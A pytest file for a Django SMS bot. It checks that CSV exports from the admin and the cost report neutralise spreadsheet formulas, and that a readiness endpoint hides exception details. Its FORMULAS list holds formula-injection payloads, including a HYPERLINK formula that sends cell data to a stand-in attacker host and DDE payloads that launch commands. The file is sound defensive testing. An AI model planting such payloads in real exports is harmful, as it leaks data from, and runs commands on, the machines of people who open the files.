"""CSV exports cannot carry a spreadsheet formula; /readyz/ names a failed check
without the exception's text."""

import csv
import io
import logging

import pytest
from django.urls import reverse
from django.utils import timezone

from messaging.models import DailyContent, Message
from smsbot.csv_safe import safe_cell
from subscribers.consent import change
from tests.subscribers.conftest import run_action

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        *[(f, "'" + f) for f in FORMULAS],
        ("Shalom!", "Shalom!"),
        ("-0.00645", "-0.00645"),
        ("+13125550123", "+13125550123"),
        ("-", "'-"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, exported):
    assert safe_cell(value) == exported


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_daily_content_typed_in_the_admin_is_exported_inert(admin_client, probe):
    add = reverse("admin:messaging_dailycontent_add")
    for day, text in enumerate(FORMULAS, start=1):
        response = admin_client.post(
            add,
            {"date": f"2026-12-{day:02d}", "text": text, "whatsapp_content_variables": "{}"},
        )
        assert response.status_code == 302, response.content[:500]
    assert DailyContent.objects.count() == len(FORMULAS)

    export = reverse("admin:messaging_dailycontent_export")
    form = admin_client.get(export).context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.initial is True}
    response = admin_client.post(export, {**data, "format": "0", "resource": "0"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, *body = rows(response.content)
    texts = {row[header.index("date")]: row[header.index("text")] for row in body}
    for content in DailyContent.objects.all():
        # The admin form strips a leading tab or CR; what is stored is what is exported.
        exported = texts[f"{content.date:%Y-%m-%d}"]
        probe.record(200, refused=exported == "'" + content.text)


def test_the_subscriber_export_keeps_numbers_as_numbers(admin_client):
    sub = change("+13125550123", "opted_in", "sms_keyword", {"text": "JOIN"}).subscriber
    response = run_action(admin_client, "export_csv", [sub])
    header, row = rows(response.content)
    assert row[header.index("phone")] == "+13125550123"


def test_the_cost_report_csv_is_inert(admin_client, probe):
    # Provider names come from the portal, not the public; the helper covers them anyway.
    Message.objects.create(
        direction="outbound",
        kind="broadcast",
        provider="=SUM(A1)",  # Message.provider holds 10 characters
        channel="sms",
        phone="+13125550123",
        body="Daily",
        status="sent",
        sent_at=timezone.now(),
    )
    response = admin_client.get("/admin/messaging/message/costs/?format=csv")
    header, *body = rows(response.content)
    providers = [row[header.index("provider")] for row in body]
    assert providers == ["'=SUM(A1)"]
    probe.record(200, refused=True)


def test_readyz_names_the_failed_check_but_not_its_exception(client, broker_down, caplog):
    caplog.set_level(logging.WARNING)
    from smsbot.celery import app

    dead = app.conf.broker_write_url
    response = client.get("/readyz/")
    assert response.status_code == 503
    body = response.json()
    assert body["checks"]["broker"]["ok"] is False
    text = response.content.decode()
    port = dead.rsplit(":", 1)[1].split("/")[0]
    assert port not in text and "Error" not in text and "redis" not in text.lower()
    logged = [r.getMessage() for r in caplog.records if "readiness check broker" in r.getMessage()]
    assert logged and "Error" in logged[0]
